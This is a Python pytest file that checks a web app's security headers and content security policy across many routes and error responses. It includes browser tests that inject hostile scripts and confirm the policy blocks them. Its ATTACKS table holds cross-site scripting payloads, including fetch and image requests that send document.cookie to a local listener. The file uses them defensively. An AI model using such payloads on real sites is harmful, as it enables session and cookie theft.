"""Every answer carries the policy, and the policy holds in a browser."""

from __future__ import annotations

import asyncio
import contextlib
import re
import socket

import pytest
from playwright.sync_api import Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.routing import Route
from starlette.types import Message

from components.serving import MIDDLEWARE, failed
from components.serving.policy import HEADERS, POLICY, SHELL, inline_scripts
from tests.browser.fixtures import Visit
from tests.security.ask import ask

UPLOAD = "/_stcore/upload_file/00000000-0000-0000-0000-000000000000/1"
ANSWERS = [
    ("GET", "/", 200), ("GET", "/convolution?stride=2", 200), ("HEAD", "/", 200), ("GET", "/app/static/icon.png", 200),
    ("GET", "/_stcore/health", 200), ("GET", "/_stcore/host-config", 200), ("GET", "/_stcore/metrics", 200),
    ("GET", "/media/guessed.png", 404), ("GET", "/app/static/nothing", 404), ("GET", "/app/static/..%2fapp.py", 400),
    ("GET", "//elsewhere.example/", 400), ("OPTIONS", UPLOAD, 204), ("PUT", UPLOAD, 403), ("DELETE", UPLOAD, 403),
    ("POST", "/_stcore/health", 405), ("POST", "/_stcore/agent/interact", 403),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path", "status"), ANSWERS)
def test_every_answer_has_them(server: str, method: str, path: str, status: int) -> None:
    answer = ask(server, path, method)
    assert answer.status == status
    assert {name: answer.headers.get_all(name) for name in HEADERS} == {name: [value] for name, value in HEADERS.items()}


def test_the_pages_own_files_have_them(server: str) -> None:
    page = ask(server).read().decode()
    files = re.findall(r'(?:src|href)="\./(static/[^"]+)"', page)
    assert {file.rsplit(".", 1)[1] for file in files} == {"js", "css", "woff2"}
    for file in files:
        answer = ask(server, f"/{file}")
        assert (answer.status, answer.headers["content-security-policy"]) == (200, HEADERS["content-security-policy"]), file


def test_an_answer_of_a_server_that_fails_has_them_and_tells_nothing() -> None:
    def fails(request: Request) -> None:
        raise RuntimeError("a secret")

    app = Starlette(routes=[Route("/", fails)], middleware=MIDDLEWARE, exception_handlers={Exception: failed})
    scope = {"type": "http", "method": "GET", "path": "/", "query_string": b"", "headers": [(b"host", b"localhost")]}
    sent: list[Message] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)

    with pytest.raises(RuntimeError):
        asyncio.run(app(scope, receive, send))
    assert sent[0]["status"] == 500
    assert set(HEADERS.items()) <= {(name.decode(), value.decode()) for name, value in sent[0]["headers"]}
    assert b"secret" not in b"".join(message.get("body", b"") for message in sent)


def test_the_policy_is_strict() -> None:
    assert POLICY["default-src"] == POLICY["base-uri"] == POLICY["frame-ancestors"] == "'none'"
    assert "'unsafe-inline'" not in POLICY["script-src"]
    sources = {source for sources in POLICY.values() for source in sources.split()}
    assert "'unsafe-eval'" not in sources
    assert {source for source in sources if not source.startswith("'")} == {"blob:", "data:"}, "something may come from elsewhere"
    assert len(list(inline_scripts(SHELL.read_text()))) == SHELL.read_text().count("<script>")


ATTACKS = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.stolen = 1' }))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.stolen = 1\">')",
    "script-src": "(() => { try { Function('window.stolen = 1')() } catch {} })()",
    "img-src": "new Image().src = 'http://127.0.0.1:PORT/' + document.cookie",
    "connect-src": "fetch('http://127.0.0.1:PORT/' + document.cookie).catch(() => {})",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:PORT/' }))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:PORT/' }))",
    "object-src": "document.body.append(Object.assign(document.createElement('object'), { data: 'http://127.0.0.1:PORT/' }))",
}


def came(elsewhere: socket.socket) -> bytes:
    """What was sent there. Chromium may connect for a frame before it looks at the policy, and sends nothing then."""
    elsewhere.setblocking(False)
    sent = b""
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = elsewhere.accept()
            connection.setblocking(False)
            with connection, contextlib.suppress(BlockingIOError):
                sent += connection.recv(4096)
    return sent


def run(page: Page, attack: str) -> str:
    """What the browser refuses of a script that got into the page; nothing, if it does not within five seconds.

    It runs in a timer: the driver's own code may evaluate text."""
    heard = "addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true })"
    later = f"setTimeout(done, 5000, 'nothing'); setTimeout(() => {{ {attack} }})"
    return str(page.evaluate(f"() => new Promise(done => {{ {heard}; {later} }})"))


@pytest.mark.browser
def test_a_page_works_and_what_gets_into_it_can_do_nothing(visit: Visit) -> None:
    """`visit` fails the test if anything is said on the console, which it would be of a page that needs what the policy forbids."""
    page = visit("/convolution?guess=skip")
    page.get_by_role("button", name="Reset", exact=True).click()
    visit.settled(page)
    assert page.locator(".js-plotly-plot").count()
    assert page.locator('[data-testid="stBidiComponentRegular"], [data-testid="stBidiComponentIsolated"]').count()
    assert visit.problems == []
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        for refused, attack in ATTACKS.items():
            assert run(page, attack.replace("PORT", str(elsewhere.getsockname()[1]))) == refused
        page.wait_for_timeout(200)
        assert came(elsewhere) == b""
    assert page.evaluate("window.stolen") is None
    assert visit.problems, "the console said nothing of it: the other tests would not notice either"
    visit.problems.clear()


@pytest.mark.browser
def test_no_page_elsewhere_can_frame_it(visit: Visit, server: str) -> None:
    page = visit("/")
    framed = page.context.new_page()
    framed.route("http://elsewhere.test/", lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{server}/"></iframe>'))
    framed.goto("http://elsewhere.test/")
    framed.wait_for_timeout(500)
    assert [frame.url for frame in framed.frames if frame.url.startswith(server)] == []
